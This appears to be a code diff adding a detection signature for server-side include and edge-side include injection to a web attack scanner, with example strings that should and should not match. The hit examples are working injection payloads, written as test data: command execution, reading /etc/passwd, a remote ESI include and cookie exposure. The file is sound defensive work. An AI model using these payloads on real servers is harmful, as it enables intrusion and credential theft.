@@ -1,0 +1,40 @@
+import { hasAll, marksOf } from '../readings/reading.ts';
+import type { Signature } from '../signature.ts';
+import { findDirective } from '../ssi/directives.ts';
+
+const COMMENT = marksOf('<!-#');
+const TAG = marksOf('<:');
+
+export const ssi: Signature = {
+  type: 'ssi',
+  mitre: 'T1190',
+  impact: [25, 35],
+  examples: {
+    hits: [
+      '<!--#exec cmd="ls /" -->',
+      '<!--#include virtual="/etc/passwd"-->',
+      '<!--#echo var="DATE_LOCAL" -->',
+      '<!--#printenv -->',
+      '<!--  # config errmsg="x" -->',
+      "x\"><!--#EXEC cmd='id'",
+      '&lt;!--#exec cmd=&quot;id&quot;--&gt;',
+      '<esi:include src="http://203.0.113.5/x" />',
+      '< esi:vars>$(HTTP_COOKIE)</esi:vars>',
+    ],
+    misses: [
+      '<!-- #region -->',
+      '<!--#-->',
+      '<!-- see #include in the header -->',
+      '<!--#if-->',
+      '#include <stdio.h>',
+      '<!-- # set of rules -->',
+      '<xsl:include href="a.xsl"/>',
+    ],
+  },
+  couldMatch(reading) {
+    return hasAll(reading, COMMENT) || (hasAll(reading, TAG) && reading.lower.includes('esi:'));
+  },
+  match({ lower }) {
+    return findDirective(lower);
+  },
+};
